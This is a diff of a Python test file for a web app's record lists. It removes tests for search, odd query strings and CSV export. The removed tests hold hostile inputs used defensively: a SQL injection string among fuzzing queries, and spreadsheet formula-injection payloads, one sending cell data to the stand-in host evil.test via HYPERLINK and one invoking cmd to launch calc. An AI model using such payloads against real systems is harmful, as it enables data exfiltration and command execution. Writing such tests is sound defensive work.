@@ -1,9 +1,7 @@
-"""Lists: the same order on both databases, filters in the address, pages without gaps, search, export."""
+"""Lists: the same order on both databases, filters in the address, pages without gaps."""
 
 from __future__ import annotations
 
-import csv
-import io
 from collections.abc import Callable
 from datetime import date
 
@@ -14,9 +12,8 @@ from tests.desk.making import make_record, make_ticket
 from tests.support.pages import PageClient
 from webapp.core.db import db
 from webapp.desk.record_templates.queries import get_template
-from webapp.desk.records import exports, lists, services
+from webapp.desk.records import lists, services
 from webapp.desk.records.wanted import Wanted
-from webapp.languages.values import Reader
 from webapp.people.accounts.models import Account, Team
 
 SignIn = Callable[[Account], PageClient]
@@ -148,73 +145,6 @@ def test_a_filter_that_is_none_is_refused(query: str, bob: Account, sign_in: Sig
     sign_in(bob).get(f"/records/{template}?{query}", status=422)
 
 
-def test_odd_addresses_of_lists_never_break(alice: Account, bob: Account, sign_in: SignIn) -> None:
-    make_ticket(alice)
-    browser = sign_in(bob)
-    for query in (
-        "cursor=x",
-        "cursor=" + "A" * 5000,
-        "q=%00",
-        "q=" + "x" * 10_000,
-        "q=%25%25%25%25",
-        "q=%22*+OR+NEAR(",
-        "q='+OR+1=1+--",
-        "q=a:b+%26+!c",
-        "q=%ED%A0%80",
-        "q=😀",
-        "page=99999999&per_page=1000000",
-        "q=x&q=y",
-        "status=all&status=new",
-    ):
-        browser.get(f"/records/ticket?{query}")
-        browser.get(f"/search?{query}")
-
-
-def test_search_finds_beginnings_of_words_in_any_case_and_spelling(
-    alice: Account, bob: Account, sign_in
-) -> None:
-    ticket = make_ticket(alice, "Ёлочная гирлянда", description="Не горит в КОРИДОРЕ, see report-2026")
-    make_record("asset", bob, title="Printer 7")
-    browser = sign_in(bob)
-    for q in (
-        "елоч",
-        "ЁЛОЧНАЯ",
-        "гирл корид",
-        "report",
-        "2026",
-        f"№ {ticket.id}",
-        f"#{ticket.id}",
-        str(ticket.id),
-    ):
-        assert "Ёлочная гирлянда" in browser.get(f"/search?q={q.replace('#', '%23')}").get_text(), q
-    for q in ("лочная", "елоч xyz", "..."):
-        assert "Ёлочная гирлянда" not in browser.get(f"/search?q={q}").get_text(), q
-    assert "Printer 7" in browser.get("/search?q=printer").get_text()
-    services.change_attributes(
-        ticket, {"title": "Lamp"}, actor=bob, version=1, shown={"title": "Ёлочная гирлянда"}
-    )
-    db.session.commit()
-    assert "Lamp" not in browser.get("/search?q=елоч").select_one("main").get_text()
-
-
-@pytest.mark.parametrize("sign", ["", "%23", "№", "№ ", "# "])
-def test_both_searches_find_a_number_however_it_is_written(
-    sign: str, alice: Account, bob: Account, sign_in: SignIn
-) -> None:
-    make_ticket(alice, "Another")
-    ticket = make_ticket(alice, "The lamp flickers")
-    browser = sign_in(bob)
-    for address in ("/records/ticket?q=", "/search?q="):
-        text = browser.get(f"{address}{sign.replace('#', '%23')}{ticket.id}").select_one("main").get_text()
-        assert "The lamp flickers" in text, address
-        assert "Another" not in text, address
-
-
-def test_everybody_finds_services(alice: Account, bob: Account, sign_in: SignIn) -> None:
-    make_record("service", bob, title="Printing")
-    assert "Printing" in sign_in(alice).get("/search?q=print").get_text()
-
-
 def test_an_empty_list_says_what_to_do(alice: Account, bob: Account, sign_in: SignIn) -> None:
     browser = sign_in(alice)
     assert browser.get("/records/ticket").select_one(".empty-state a[href='/records/ticket/new']")
@@ -229,68 +159,6 @@ def test_with_htmx_only_the_list_comes(alice: Account, bob: Account, sign_in: Si
     page = sign_in(bob).get("/records/ticket", headers={"HX-Request": "true"})
     assert page.select_one("#record-list")
     assert not page.select_one("html")
-
-
-def test_export_and_reset_follow_the_filters_that_htmx_set(
-    alice: Account, bob: Account, sign_in: SignIn
-) -> None:
-    make_ticket(alice)
-    browser = sign_in(bob)
-    whole = browser.get("/records/ticket")
-    assert whole.select_one("#export-link")["href"] == "/records/ticket/export.csv?"
-    assert not whole.select("#reset-link a, [hx-swap-oob]")
-    part = browser.get("/records/ticket?priority=1", headers={"HX-Request": "true"})
-    assert part.select_one("#export-link[hx-swap-oob]")["href"] == "/records/ticket/export.csv?priority=1"
-    assert part.select_one("#reset-link[hx-swap-oob] a")["href"] == "/records/ticket"
-
-
-def test_the_export_has_what_the_list_has_and_runs_no_formulas(
-    alice: Account, bob: Account, sign_in: SignIn
-) -> None:
-    dangerous = [
-        '=HYPERLINK("http://evil.test/"&A1,"x")',
-        "+1+cmd|'/C calc'!A0",
-        "-2+3",
-        "@SUM(1)",
-        'Tab, "quoted"',
-    ]
-    for title in dangerous:
-        make_ticket(alice, title, priority="2")
-    make_ticket(alice, "other", priority="1")
-    browser = sign_in(bob)
-    browser.get("/records/ticket/export.csv?priority=2&sort=number")
-    assert "attachment" in browser.response.headers["Content-Disposition"]
-    text = browser.response.get_data(as_text=True)
-    assert text.startswith("\ufeff")
-    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
-    assert [row[2] for row in rows[1:]] == [f"'{title}" for title in dangerous[:4]] + dangerous[4:]
-    assert rows[0][:3] == ["Number", "Status", "Subject"]
-    assert {len(row) for row in rows} == {10}
-
-
-def test_the_export_goes_on_after_the_first_page(
-    alice: Account, bob: Account, sign_in: SignIn, monkeypatch
-) -> None:
-    monkeypatch.setattr(exports, "ROWS_AT_ONCE", 2)
-    for number in range(5):
-        make_ticket(alice, f"Ticket {number}")
-    browser = sign_in(bob)
-    browser.get("/records/ticket/export.csv?sort=number")
-    rows = list(csv.reader(io.StringIO(browser.response.get_data(as_text=True))))
-    assert [row[2] for row in rows[1:]] == [f"Ticket {number}" for number in range(5)]
-
-
-def test_the_export_ends_when_the_rest_goes_away_meanwhile(alice: Account, bob: Account, monkeypatch) -> None:
-    monkeypatch.setattr(exports, "ROWS_AT_ONCE", 2)
-    tickets = [make_ticket(alice, f"Ticket {number}") for number in range(3)]
-    template = get_template("ticket")
-    assert template
-    heads = ("Number", "Status", "Created", "Changed")
-    rows = exports.rows_of(template, bob, Wanted(sort="number"), Reader(), heads)
-    found = [next(rows) for _row in range(3)]
-    services.change_status(tickets[-1], "cancelled", actor=bob)
-    found += rows
-    assert len(found) == 3
 
 
 def test_the_list_shows_the_columns_that_its_template_names_and_filters_by_the_others(
